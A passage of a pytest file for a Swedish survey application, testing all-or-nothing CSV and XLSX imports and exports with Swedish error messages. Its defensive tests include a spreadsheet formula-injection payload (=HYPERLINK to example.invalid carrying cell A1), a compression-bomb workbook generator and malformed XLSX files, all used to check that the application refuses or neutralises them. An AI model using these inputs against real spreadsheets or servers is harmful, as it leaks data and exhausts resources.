"""Answers, history and national files: all-or-nothing imports with Swedish row/column messages."""

from __future__ import annotations

import io
import os
import stat
import threading

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import text

from tests import seedrows
from tests.conftest import count_rows
from tests.factories import CHEF


def write(tmp_path, name, text):
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return str(path)


def workbook(header: list[str], *rows: list) -> Workbook:
    """A workbook whose sheet holds the header and the rows, typed as Excel would keep
    them (numbers, dates, truth values); the caller saves it, after any change of a cell."""
    book = Workbook()
    sheet = book.active
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    return book


def test_import_then_export_then_import_reproduces_the_report(app, runner, tmp_path, database_url):
    path = write(tmp_path, "svar.csv", seedrows.csv_text())
    result = runner.invoke(args=["import", "answers", path])
    assert result.exit_code == 0, result.output
    assert "118 rader importerade" in result.output
    assert runner.invoke(args=["publish", "--year", "2023"]).exit_code == 0
    report_before = runner.invoke(args=["report", "--year", "2023", "--format", "csv"]).output
    exported = runner.invoke(args=["export", "answers"]).output
    # Swedish Excel: BOM and ';'; no date (anonymity)
    assert exported.splitlines()[0] == (
        "\ufeffyear;questionnaire;insats;gender;q1;q2;q3;q4;q5;q6;q7;q8;q9;q10;q11"
    )
    assert len(exported.splitlines()) == 119
    from tests.conftest import empty_database

    empty_database(database_url)
    assert count_rows(app, "response") == 0
    again = write(tmp_path, "export.csv", exported)
    assert runner.invoke(args=["import", "answers", again]).exit_code == 0
    assert runner.invoke(args=["publish", "--year", "2023"]).exit_code == 0
    report_after = runner.invoke(args=["report", "--year", "2023", "--format", "csv"]).output
    assert report_after == report_before
    assert (
        "2023,1,deltagare_avslut,1,samtliga,114,110," in report_after  # 4 without gender left out
    )


def test_xlsx_round_trip(app, runner, tmp_path, database_url):
    assert (
        runner.invoke(
            args=["import", "answers", write(tmp_path, "svar.csv", seedrows.csv_text())]
        ).exit_code
        == 0
    )
    out = tmp_path / "svar.xlsx"
    assert (
        runner.invoke(
            args=["export", "answers", "--format", "xlsx", "--output", str(out)]
        ).exit_code
        == 0
    )
    sheet = load_workbook(out).active
    assert sheet.max_row == 119
    assert runner.invoke(args=["publish", "--year", "2023"]).exit_code == 0
    before = runner.invoke(args=["report", "--year", "2023"]).output
    from tests.conftest import empty_database

    empty_database(database_url)
    result = runner.invoke(args=["import", "answers", str(out)])
    assert result.exit_code == 0, result.output
    assert runner.invoke(args=["publish", "--year", "2023"]).exit_code == 0
    assert runner.invoke(args=["report", "--year", "2023"]).output == before


HEADER = "year,questionnaire,insats,gender,submitted_on,q1,q2,q3,q4,q5,q6,q7,q8,q9,q10,q11\n"


def test_bad_answers_file_names_row_and_column_and_imports_nothing(app, runner, tmp_path):
    text = HEADER + (
        "2023,deltagare_avslut,A,kvinna,2023-05-01,6,5,,,,,,1,6,6,\n"  # fine
        "2023,deltagare_avslut,A,kvinna,2023-05-01,9,5,,,,,,,,,\n"  # 9 outside scale
        "2023,deltagare_avslut,A,kvinna,2023-05-01,6,,,,,,,2,5,,\n"  # 9 without Ja on 8
        "2023,okand,A,,2023-05-01,6,,,,,,,,,,\n"  # unknown questionnaire
        "2023,styrelse,,kvinna,2023-05-01,6,,,,,,,,,,\n"  # gender for board
        "20x3,personal,A,,2023-05-01,6,,,,,,,,,,\n"  # bad year
        "2023,personal,A,,1.5.2023,6,,,,,,,,,,\n"  # a date, ignored (no longer stored)
        "2023,styrelse,,,2023-05-01,6,,,,,,,,,,6\n"  # q11 not in styrelse
    )
    result = runner.invoke(args=["import", "answers", write(tmp_path, "bad.csv", text)])
    assert result.exit_code != 0
    out = result.output
    assert "Rad 3, kolumn q1" in out
    assert "Rad 4, kolumn q9" in out
    assert "besvaras bara om fråga 8 är Ja" in out
    assert "Rad 5, kolumn questionnaire" in out
    assert "Rad 6, kolumn gender" in out
    assert "Rad 7, kolumn year" in out
    assert "Rad 8" not in out
    assert "submitted_on" not in out
    assert "Rad 9, kolumn q11" in out
    assert "Ingenting har importerats" in out
    assert "Rad 2" not in out
    assert count_rows(app, "response") == 0
    assert count_rows(app, "intervention") == 0


def test_missing_column_and_wrong_type_and_empty(app, runner, tmp_path):
    result = runner.invoke(
        args=["import", "answers", write(tmp_path, "a.csv", "year,questionnaire\n2023,styrelse\n")]
    )
    assert "kolumnen insats" in result.output
    assert result.exit_code != 0
    result = runner.invoke(args=["import", "answers", write(tmp_path, "a.pdf", "x")])
    assert "stöds inte" in result.output
    result = runner.invoke(args=["import", "answers", write(tmp_path, "a.csv", "")])
    assert "tom" in result.output
    result = runner.invoke(args=["import", "answers", str(tmp_path / "saknas.csv")])
    assert "finns inte" in result.output
    broken = tmp_path / "trasig.xlsx"
    broken.write_bytes(b"PK\x03\x04 not really a workbook")
    assert "Excel" in runner.invoke(args=["import", "answers", str(broken)]).output
    assert count_rows(app, "response") == 0


def test_a_column_named_twice_is_refused_naming_both_places(app, runner, tmp_path):
    """`year` twice (2026 and 2025) was stored under the last one without a word; `år`
    and `year` are the same column in two languages."""
    answers = "5" + "," * 10
    cases = (
        (  # year again after insats
            HEADER.replace("insats,", "insats,year,"),
            f"2025,personal,A,2026,,,{answers}",
            "kolumnen year finns 2 gånger (kolumn 1 och 4)",
        ),
        ("år," + HEADER, f"2026,2025,personal,A,,,{answers}", "kolumnen year finns 2 gånger"),
    )
    for header, row, message in cases:
        path = write(tmp_path, "dubbel.csv", f"{header}{row}\n")
        result = runner.invoke(args=["import", "answers", path])
        assert result.exit_code == 1
        assert f"Rad 1: {message}" in result.output
        assert "Behåll en av dem." in result.output
    assert count_rows(app, "response") == 0


@pytest.mark.parametrize(
    ("rows", "message"),
    [
        # a file cut off inside a quoted field: never a row made of what was there
        ('2024,styrelse,,,2024-03-01,6,,,,,,,,,,\n2024,styrelse,"Nya', "Rad 4: filen slutar mitt"),
        # a quote in the middle of a quoted field
        ('2024,styrelse,"Ste"get,,2024-03-01,6,,,,,,,,,,\n', "Rad 3: ett citattecken"),
        # more values than columns: a decimal comma in a comma-separated file
        ("2024,styrelse,,,2024-03-01,6,5,,,,,,,,,,3,5\n", "Rad 3: raden har fler värden (18)"),
        ("2024,styrelse,," + "x" * 200_000 + ",,6\n", "Rad 3: ett fält är för långt"),
    ],
    ids=["cut-off", "stray-quote", "extra-values", "long-field"],
)
def test_a_broken_csv_names_its_row_in_swedish_and_imports_nothing(
    app, runner, tmp_path, rows, message
):
    path = write(tmp_path, "trasig.csv", HEADER + "2024,personal,Steget,,,6,,,,,,,,,,\n" + rows)
    result = runner.invoke(args=["import", "answers", path])
    assert result.exit_code != 0
    assert message in result.output
    assert "Ingenting har" in result.output
    assert "expected" not in result.output
    assert "limit" not in result.output
    assert count_rows(app, "response") == 0
    assert count_rows(app, "intervention") == 0


def test_a_csv_with_its_header_below_a_blank_first_line_says_so(app, runner, tmp_path):
    path = write(tmp_path, "tomrad.csv", "\n" + HEADER + "2024,styrelse,,,,6,,,,,,,,,,\n")
    result = runner.invoke(args=["import", "answers", path])
    assert result.exit_code != 0
    assert "Rad 1 är tom. Rubrikraden (kolumnnamnen) ska stå på första raden." in result.output
    assert count_rows(app, "response") == 0


def test_semicolon_csv_from_swedish_excel(app, runner, tmp_path):
    text = HEADER.replace(",", ";") + "2024;styrelse;;;2024-03-01;6;5;4;3;2;;;;;;\n"
    result = runner.invoke(args=["import", "answers", write(tmp_path, "s.csv", "\ufeff" + text)])
    assert result.exit_code == 0, result.output
    assert count_rows(app, "response") == 1


def test_whole_numbers_written_with_zero_decimals_are_taken_as_in_xlsx(app, runner, tmp_path):
    """A tool that writes a column of numbers with gaps to CSV writes 6 as "6.0" (an
    XLSX cell of 6.0 was taken, the same figures as CSV were refused on every row). Zero
    decimals are a whole number; any other decimals still name the row and column."""
    text = HEADER + "2024.0,personal,A,,,6.0,5,00,4,,,,,,,,\n".replace("5,00", '"5,00"')
    result = runner.invoke(args=["import", "answers", write(tmp_path, "nollor.csv", text)])
    assert result.exit_code == 0, result.output
    with app.app_context():
        from sqlalchemy import text as sql

        from surveys import db

        given = sql("SELECT code FROM answer WHERE code IS NOT NULL ORDER BY code")
        assert list(db.session().execute(given).scalars()) == [4, 5, 6]
    for written in ("5.5", "5.01", "5.", ".0", "5.0.0", "5.000"):  # 5,000 may be 5000
        bad = HEADER + f"2024,personal,A,,,{written},,,,,,,,,,\n"
        result = runner.invoke(args=["import", "answers", write(tmp_path, "bad.csv", bad)])
        assert result.exit_code == 1, written
        assert "Rad 2, kolumn q1" in result.output, written
    assert count_rows(app, "response") == 1
    history = (
        "year;questionnaire;question;subgroup;n;negative;neutral;positive;clearly_positive;"
        "response_rate\n2022.0;personal;1;samtliga;{n};10;20;70;40;55\n"
    )
    thousand = write(tmp_path, "h.csv", history.format(n="1,000"))  # a thousand, not 1
    result = runner.invoke(args=["import", "history", thousand])
    assert result.exit_code == 1
    assert "Rad 2, kolumn n: '1,000' är inget antal." in result.output
    result = runner.invoke(
        args=["import", "history", write(tmp_path, "h.csv", history.format(n="80,0"))]
    )
    assert result.exit_code == 0, result.output
    assert count_rows(app, "history_figure") == 1


def test_history_and_national_import_and_validation(app, runner, tmp_path):
    history = (
        "year,questionnaire,question,subgroup,n,negative,neutral,positive,"
        "clearly_positive,response_rate\n"
        "2019,deltagare_avslut,1,samtliga,120,4,6,90,70,95\n"
        "2019,deltagare_avslut,1,kvinnor,60,3,5,92,75,96\n"
    )
    result = runner.invoke(args=["import", "history", write(tmp_path, "h.csv", history)])
    assert result.exit_code == 0
    assert "2 rader" in result.output
    assert count_rows(app, "history_figure") == 2
    # re-import replaces instead of duplicating
    runner.invoke(args=["import", "history", write(tmp_path, "h.csv", history)])
    assert count_rows(app, "history_figure") == 2
    bad = (
        "year,questionnaire,question,subgroup,n,negative,neutral,positive,"
        "clearly_positive,response_rate\n"
        "2019,deltagare_avslut,1,samtliga,120,4,6,90,70,95\n"
        "2019,styrelse,1,kvinnor,8,0,0,100,50,100\n"
        "2019,deltagare_avslut,12,samtliga,8,0,0,100,50,100\n"
        "2019,deltagare_avslut,2,samtliga,8,0,0,60,70,101\n"
    )
    result = runner.invoke(args=["import", "history", write(tmp_path, "bad.csv", bad)])
    assert result.exit_code != 0
    assert "Rad 3, kolumn subgroup" in result.output
    assert "Rad 4, kolumn question" in result.output
    assert "Rad 5, kolumn response_rate" in result.output
    assert "Rad 5: Klart positivt" in result.output
    national = (
        "year,questionnaire,question,subgroup,positive\n2023,deltagare_avslut,1,samtliga,91\n"
    )
    assert (
        runner.invoke(args=["import", "national", write(tmp_path, "n.csv", national)]).exit_code
        == 0
    )
    bad_national = national + "2023,deltagare_avslut,1,samtliga,92\n"
    result = runner.invoke(args=["import", "national", write(tmp_path, "n2.csv", bad_national)])
    assert "Rad 3: samma år" in result.output
    assert count_rows(app, "national_figure") == 1


def test_xlsx_answers_with_numbers_and_dates(app, runner, tmp_path):
    from datetime import datetime

    book = workbook(
        HEADER.strip().split(","),
        [
            2024,
            "personal",
            "Insats A",
            None,
            datetime(2024, 4, 2),  # noqa: DTZ001 - Excel cells have no time zone
            6.0,
            5,
            4,
            3,
            2,
            1,
            0,
            None,
            None,
            6,
            5,
        ],
    )
    buffer = io.BytesIO()
    book.save(buffer)
    path = tmp_path / "p.xlsx"
    path.write_bytes(buffer.getvalue())
    result = runner.invoke(args=["import", "answers", str(path)])
    assert result.exit_code == 0, result.output
    assert count_rows(app, "answer") == 11


# --- broken and hostile XLSX: a message, never a 500 or a traceback ---------------

import time  # noqa: E402
import zipfile  # noqa: E402

from tests.conftest import form_token  # noqa: E402

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'  # noqa: E501
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'  # noqa: E501
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'  # noqa: E501
    "</Types>"
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'  # noqa: E501
    "</Relationships>"
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Blad1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'  # noqa: E501
    "</Relationships>"
)
HISTORY_HEADER = (
    "year,questionnaire,question,subgroup,n,negative,neutral,positive,clearly_positive,"
    "response_rate"
)


def header_cells(columns: str) -> str:
    cells = "".join(f'<c t="inlineStr"><is><t>{name}</t></is></c>' for name in columns.split(","))
    return f"<row>{cells}</row>"


def xlsx_package(sheet_xml: bytes | str, *, with_workbook: bool = True) -> bytes:
    """A workbook written by hand, so the sheet XML can be anything."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as package:
        package.writestr("[Content_Types].xml", CONTENT_TYPES)
        package.writestr("_rels/.rels", ROOT_RELS)
        if with_workbook:
            package.writestr("xl/workbook.xml", WORKBOOK)
            package.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        package.writestr("xl/worksheets/sheet1.xml", sheet_xml)
    return out.getvalue()


def sheet(rows: str, dimension: str | None = None) -> str:
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"{dim}<sheetData>{rows}</sheetData></worksheet>"
    )


def malformed_files() -> dict[str, bytes]:
    good_row = (
        "<row><c><v>2019</v></c>"
        '<c t="inlineStr"><is><t>deltagare_avslut</t></is></c>'
        "<c><v>1</v></c></row>"
    )
    return {
        "not-a-zip": b"this is a plain text file, not a workbook at all\n" * 20,
        "zip-without-workbook": xlsx_package(
            sheet(header_cells(HISTORY_HEADER)), with_workbook=False
        ),
        "broken-sheet-xml": xlsx_package(
            sheet(header_cells(HISTORY_HEADER) + good_row)[:-40] + "<row><c><v>1</c></row"
        ),
        "encrypted-ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096),
        "huge-dimension": xlsx_package(
            sheet(header_cells(HISTORY_HEADER), dimension="A1:XFD1048576")
        ),
    }


@pytest.mark.parametrize("name", list(malformed_files()))
def test_malformed_xlsx_on_the_history_upload_is_a_swedish_message(app, admin_client, name):
    data = malformed_files()[name]
    page = admin_client.get("/admin/importer")
    response = admin_client.post(
        "/admin/importer/historik",
        data={"csrf_token": form_token(page.text), "file": (io.BytesIO(data), f"{name}.xlsx")},
        content_type="multipart/form-data",
        follow_redirects=True,
    )
    assert response.status_code == 200
    assert "Ingenting har importerats." in response.text
    assert "Excel" in response.text or "Bladet" in response.text or "skadad" in response.text
    assert "Traceback" not in response.text
    assert count_rows(app, "history_figure") == 0
    assert count_rows(app, "import_batch") == 0


@pytest.mark.parametrize("name", list(malformed_files()))
def test_malformed_xlsx_on_the_command_line_is_a_swedish_message(app, runner, tmp_path, name):
    path = tmp_path / "bad.xlsx"
    path.write_bytes(malformed_files()[name])
    result = runner.invoke(args=["import", "answers", str(path)])
    assert result.exit_code == 1
    assert "Ingenting har importerats" in result.output
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert count_rows(app, "response") == 0


def bomb(rows: int, *, declared: bool) -> bytes:
    """A small file that unpacks to ``rows`` rows (identical rows compress ~1000:1)."""
    body = header_cells(HISTORY_HEADER) + "<row><c><v>1</v></c></row>" * rows
    return xlsx_package(sheet(body, dimension=f"A1:J{rows + 1}" if declared else None))


@pytest.mark.parametrize("declared", [True, False])
def test_a_320_kb_file_of_five_million_rows_is_refused_within_a_second(app, admin_client, declared):
    data = bomb(5_000_000, declared=declared)
    assert len(data) < 400_000
    page = admin_client.get("/admin/importer")
    started = time.perf_counter()
    response = admin_client.post(
        "/admin/importer/historik",
        data={"csrf_token": form_token(page.text), "file": (io.BytesIO(data), "stor.xlsx")},
        content_type="multipart/form-data",
        follow_redirects=True,
    )
    elapsed = time.perf_counter() - started
    assert elapsed < 1.0, elapsed
    assert "för stort" in response.text or "fler än" in response.text
    assert "Ingenting har importerats." in response.text
    assert count_rows(app, "history_figure") == 0


def test_export_to_a_missing_folder_is_a_message_not_a_traceback(runner):
    result = runner.invoke(args=["export", "answers", "--output", "/missing/x.csv"])
    assert result.exit_code == 1
    assert "mappen /missing finns inte" in result.output
    assert "Traceback" not in result.output
    assert not isinstance(result.exception, OSError)


def test_an_export_is_written_whole_and_a_device_is_written_to_not_replaced(runner, tmp_path):
    """Written beside the target and renamed into place (owner-only: answers inside);
    a device or a pipe given as --output is written to as it is."""
    target = tmp_path / "svar.csv"
    target.write_text("gammalt innehåll")
    result = runner.invoke(args=["export", "answers", "--output", str(target)])
    assert result.exit_code == 0, result.output
    assert target.read_text(encoding="utf-8-sig").startswith("year;questionnaire;")
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert [p.name for p in tmp_path.glob("*svar.csv*")] == ["svar.csv"]  # no temporary left
    pipe = tmp_path / "rör"  # a pipe, not /dev/null: a regression must not harm the machine
    os.mkfifo(pipe)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(pipe.read_bytes()), daemon=True)
    reader.start()
    result = runner.invoke(args=["export", "answers", "--output", str(pipe)])
    reader.join(timeout=30)
    assert result.exit_code == 0, result.output
    assert stat.S_ISFIFO(pipe.stat().st_mode)  # still the pipe
    assert received[0].decode("utf-8-sig").startswith("year;questionnaire;")


# --- formula-safe exports that round-trip -----------------------------------------

HOSTILE = '=HYPERLINK("http://example.invalid/?x="&A1,"Klicka")'


def test_formulas_are_inert_in_csv_and_xlsx_and_round_trip(app, runner, tmp_path, database_url):
    from sqlalchemy import text as sql

    from surveys import db
    from tests.conftest import empty_database

    hostile = [HOSTILE, "+46 Insats", "@sum", "-minus"]
    rows = (
        HEADER
        + f'2024,personal,"{HOSTILE.replace(chr(34), chr(34) * 2)}",,,6,5,,,,,,,,,\n'
        + "2024,personal,+46 Insats,,,5,5,,,,,,,,,\n"
        + "2024,personal,@sum,,,4,,,,,,,,,,\n"
        + "2024,personal,-minus,,,3,,,,,,,,,,\n"
    )
    refused = runner.invoke(args=["import", "answers", write(tmp_path, "f.csv", rows)])
    assert refused.exit_code != 0  # a new insats may not be named like a formula (issue 18)
    assert refused.output.count("får inte börja med =, +, - eller @") == 4
    # names from before that rule are still exported inert
    with app.app_context():
        for i, name in enumerate(hostile):
            db.session().execute(
                sql("INSERT INTO intervention (id, name, name_key) VALUES (:id, :n, :k)"),
                {"id": f"gammal{i}", "n": name, "k": f"gammal{i}"},
            )
        db.session().commit()
    plain = HEADER + "".join(f"2024,personal,Insats {i},,,{6 - i},,,,,,,,,,\n" for i in range(4))
    assert runner.invoke(args=["import", "answers", write(tmp_path, "p.csv", plain)]).exit_code == 0
    with app.app_context():
        db.session().execute(
            sql(
                "UPDATE response SET intervention_id = 'gammal' || "
                "(SELECT substr(name, 8) FROM intervention WHERE id = response.intervention_id)"
            )
        )
        db.session().commit()
    first = runner.invoke(args=["export", "answers"]).output
    # every cell that a spreadsheet would run starts with an apostrophe
    assert "\"'=HYPERLINK(" in first or "'=HYPERLINK(" in first
    for line in first.splitlines()[1:]:
        insats = next(csv_cells(line))
        assert insats.startswith("'")
        assert insats[1] in "=+-@"
    xlsx = tmp_path / "f.xlsx"
    assert (
        runner.invoke(
            args=["export", "answers", "--format", "xlsx", "--output", str(xlsx)]
        ).exit_code
        == 0
    )
    cells = [c for row in load_workbook(xlsx).active.iter_rows() for c in row if c.value == HOSTILE]
    assert cells
    assert all(c.data_type == "s" for c in cells)
    # ordinary names: export → import → export is identical, through CSV and through XLSX
    empty_database(database_url)
    assert runner.invoke(args=["import", "answers", write(tmp_path, "p.csv", plain)]).exit_code == 0
    csv_out = runner.invoke(args=["export", "answers"]).output
    runner.invoke(args=["export", "answers", "--format", "xlsx", "--output", str(xlsx)])
    for source in (write(tmp_path, "again.csv", csv_out), str(xlsx)):
        empty_database(database_url)
        result = runner.invoke(args=["import", "answers", source])
        assert result.exit_code == 0, result.output
        assert runner.invoke(args=["export", "answers"]).output == csv_out


def csv_cells(line: str):
    import csv as _csv

    yield _csv.reader([line], delimiter=";").__next__()[2]


# --- Swedish labels, templates, list of imports ------------------------------------


def test_answers_accept_swedish_labels_and_ignore_a_date_column(app, runner, tmp_path):
    text = HEADER + (
        "2024,Deltagare avslut,A,Kvinnor,2024-05-01,6,5,,,,,,1,6,6,\n"
        "2024,deltagare – avslut,A,män,,6,,,,,,,,,,\n"
        "2024,PERSONAL,A,,,5,,,,,,,,,,\n"
    )
    result = runner.invoke(args=["import", "answers", write(tmp_path, "sv.csv", text)])
    assert result.exit_code == 0, result.output
    with app.app_context():
        from sqlalchemy import text as sql

        from surveys import db

        stored = (
            db.session()
            .execute(
                sql(
                    "SELECT questionnaire_key, gender FROM response ORDER BY questionnaire_key, gender"  # noqa: E501
                )
            )
            .all()
        )
    assert [tuple(r) for r in stored] == [
        ("deltagare_avslut", "kvinna"),
        ("deltagare_avslut", "man"),
        ("personal", None),
    ]
    bad = HEADER + "2024,Deltagare mitten,A,kvinna,,6,,,,,,,,,,\n2024,personal,A,,,x,,,,,,,,,,\n"
    result = runner.invoke(args=["import", "answers", write(tmp_path, "bad.csv", bad)])
    assert "Rad 2, kolumn questionnaire: Okänd enkät 'Deltagare mitten'" in result.output
    assert "Rad 3, kolumn q1" in result.output
    assert count_rows(app, "response") == 3


def test_history_accepts_labels_decimal_commas_and_percent_signs(app, runner, tmp_path):
    from surveys.files.history import history_rows

    text = (
        HISTORY_HEADER.replace(",", ";")
        + "\n2019;Deltagare avslut;1;Samtliga;120;4;6;90;70;95\n"
        + "2019;deltagare – avslut;1;män;58;3,5;6;89,5 %;68;94%\n"
        + "2019;Personal;2;samtliga;30;2,4;0;97,6;50;100\n"
    )
    result = runner.invoke(args=["import", "history", write(tmp_path, "h.csv", text)])
    assert result.exit_code == 0, result.output
    with app.app_context():
        from surveys import db

        rows = {(r["questionnaire"], r["subgroup"]): r for r in history_rows(db.session())}
    assert rows[("deltagare_avslut", "man")]["negative"] == 4  # 3,5 rounded half up
    assert rows[("deltagare_avslut", "man")]["positive"] == 90
    assert rows[("deltagare_avslut", "man")]["response_rate"] == 94
    assert rows[("personal", "samtliga")]["negative"] == 2
    bad = (
        HISTORY_HEADER
        + "\n2019,Deltagare avslut,1,flickor,10,1,1,1,1,1\n2019,Personal,1,samtliga,10,1,1,12;5,1,1\n"  # noqa: E501
    )
    result = runner.invoke(args=["import", "history", write(tmp_path, "b.csv", bad)])
    assert "Rad 2, kolumn subgroup: 'flickor'" in result.output
    assert "(samtliga, kvinnor, män)" in result.output


def test_a_number_no_share_can_be_is_refused_not_a_traceback(app, runner, tmp_path):
    """An Excel cell holds a float: 1e30, -1e30 or infinity is no percentage (Decimal
    could not even round it), and is named in Swedish like any other bad share."""
    from surveys.files.reading import parse_share

    for absurd in (1e30, -1e30, float("inf"), float("nan"), 10**40, 1000.5):
        assert parse_share(absurd) is None, absurd
    assert (parse_share(99.5), parse_share(0.4), parse_share(100)) == (100, 0, 100)
    path = tmp_path / "h.xlsx"
    row = [2022, "personal", 1, "samtliga", 10, 1, 1, 1e30, 1, 50]
    workbook(HISTORY_HEADER.split(","), row).save(path)
    result = runner.invoke(args=["import", "history", str(path)])
    assert result.exit_code == 1
    assert "Rad 2, kolumn positive" in result.output
    assert "Ingenting har importerats" in result.output
    assert count_rows(app, "history_figure") == 0


@pytest.mark.parametrize("kind", ["historik", "riket"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_templates_download_and_import_as_they_are(app, admin_client, kind, fmt):
    template = admin_client.get(f"/admin/importer/mall/{kind}.{fmt}")
    assert template.status_code == 200
    if fmt == "csv":
        assert template.data.startswith("\ufeffyear;questionnaire".encode())
    else:
        header = [
            c.value for c in next(load_workbook(io.BytesIO(template.data)).active.iter_rows())
        ]
        assert header[:4] == ["year", "questionnaire", "question", "subgroup"]
    page = admin_client.get("/admin/importer")
    response = admin_client.post(
        f"/admin/importer/{kind}",
        data={
            "csrf_token": form_token(page.text),
            "file": (io.BytesIO(template.data), f"mall.{fmt}"),
        },
        content_type="multipart/form-data",
        follow_redirects=True,
    )
    assert "rader importerade" in response.text, response.text
    table = "history_figure" if kind == "historik" else "national_figure"
    assert count_rows(app, table) >= 2


def test_answers_template_imports_on_the_command_line(app, admin_client, runner, tmp_path):
    for fmt in ("csv", "xlsx"):
        path = tmp_path / f"mall.{fmt}"
        path.write_bytes(admin_client.get(f"/admin/importer/mall/svar.{fmt}").data)
        result = runner.invoke(args=["import", "answers", str(path)])
        assert result.exit_code == 0, result.output
    assert count_rows(app, "response") == 4


def test_imports_are_listed_and_a_figures_batch_can_be_removed(app, admin_client, runner, tmp_path):
    from tests.conftest import table_rows

    runner.invoke(args=["import", "answers", write(tmp_path, "svar.csv", seedrows.csv_text())])
    page = admin_client.get("/admin/importer")
    history = HISTORY_HEADER + "\n2019,Deltagare avslut,1,Samtliga,120,4,6,90,70,95\n"
    admin_client.post(
        "/admin/importer/historik",
        data={
            "csrf_token": form_token(page.text),
            "file": (io.BytesIO(history.encode()), "h2019.csv"),
        },
        content_type="multipart/form-data",
    )
    page = admin_client.get("/admin/importer")
    rows = table_rows(page.text)
    assert rows[0][:2] == ("Vad", "Fil")
    listed = {r[1]: r for r in rows[1:]}
    assert listed["h2019.csv"][0] == "Historik från tidigare årsrapporter"
    assert listed["h2019.csv"][2] == "1"
    assert listed["h2019.csv"][4] == "administratör-0@example.invalid"
    assert listed["svar.csv"][2] == "118"
    assert listed["svar.csv"][4] == "kommandoraden"
    assert listed["svar.csv"][5] == "Kan inte tas bort"
    # answers are never linked to a batch
    with app.app_context():
        from surveys.models import Response

        assert "batch_id" not in Response.__table__.c
    import re

    action = re.search(r'action="(/admin/importer/[0-9a-f]{32}/ta-bort)"', page.text).group(1)
    response = admin_client.post(
        action, data={"csrf_token": form_token(page.text)}, follow_redirects=True
    )
    assert "är borttagen" in response.text
    assert count_rows(app, "history_figure") == 0
    assert count_rows(app, "response") == 118
    log = admin_client.get("/admin/logg").text
    assert "Tog bort importerad historik" in log
    assert "h2019.csv" in log
    assert (
        admin_client.post(
            action, data={"csrf_token": form_token(page.text)}, follow_redirects=True
        ).status_code
        == 200
    )


def test_single_use_links_csv_opens_in_columns_in_swedish_excel(app, admin_client, make_round):
    r = make_round("deltagare_avslut", mode="single_use")
    page = admin_client.get(f"/personal/omgang/{r.id}")
    response = admin_client.post(
        f"/personal/omgang/{r.id}/lankar.csv",
        data={"csrf_token": form_token(page.text), "count": "3"},
    )
    lines = response.data.decode("utf-8").splitlines()
    assert lines[0] == "\ufeffnr;lank"
    assert len(lines) == 4
    assert all(line.split(";")[1].startswith("http") for line in lines[1:])


def test_streaming_import_is_all_or_nothing_across_chunks(app, tmp_path):
    from surveys import db
    from surveys.files.answers import import_answers
    from surveys.files.reading import FileError
    from surveys.services.catalogue import instrument_from_db

    good = "2024,personal,Insats {i},,5,5,,,,,,,,,\n"
    text = "year,questionnaire,insats,gender," + ",".join(f"q{i}" for i in range(1, 12)) + "\n"
    text += "".join(good.format(i=i) for i in range(60)) + "2024,personal,Sist,,9,,,,,,,,,,\n"
    path = tmp_path / "svar.csv"
    path.write_text(text, encoding="utf-8")
    with app.app_context():
        session = db.session()
        with pytest.raises(FileError) as refused:
            import_answers(
                session,
                CHEF,
                instrument_from_db(session),
                path=path,
                filename="svar.csv",
                chunk=10,
            )
    assert refused.value.errors == [
        "Rad 62, kolumn q1: Fråga 1: '9' är inget giltigt svar (tillåtna koder: 0, 1, 2, 3, 4, 5, 6)."  # noqa: E501
    ]
    # six chunks had been inserted before the bad row: all rolled back, insatser too
    assert count_rows(app, "response") == 0
    assert count_rows(app, "answer") == 0
    assert count_rows(app, "intervention") == 0
    assert count_rows(app, "audit_entry") == 0  # nor the insatser's audit entries


def test_an_insats_an_answer_file_brings_is_created_and_audited_as_the_page_creates_one(
    app, tmp_path
):
    """The upload creates a new insats by the same rules (a published name refused
    elsewhere) and with the same audit entry as the administrator's page."""
    from surveys import db
    from surveys.services.catalogue import instrument_from_db
    from surveys.services.imports import import_answer_file

    header = "year,questionnaire,insats,gender," + ",".join(f"q{i}" for i in range(1, 12))
    rows = ["2024,personal,Steget,,5,5,,,,,,,,,", "2024,personal,steget,,4,4,,,,,,,,,"]
    path = tmp_path / "svar.csv"
    path.write_text("\n".join([header, *rows]) + "\n", encoding="utf-8")
    with app.app_context():
        session = db.session()
        import_answer_file(
            session, CHEF, instrument_from_db(session), path=path, filename="svar.csv"
        )
        session.commit()
        entries = session.execute(
            text("SELECT user_email, action, detail FROM audit_entry ORDER BY action")
        ).all()
    assert [tuple(e) for e in entries] == [
        (CHEF.email, "import.svar", "2 rader från svar.csv"),
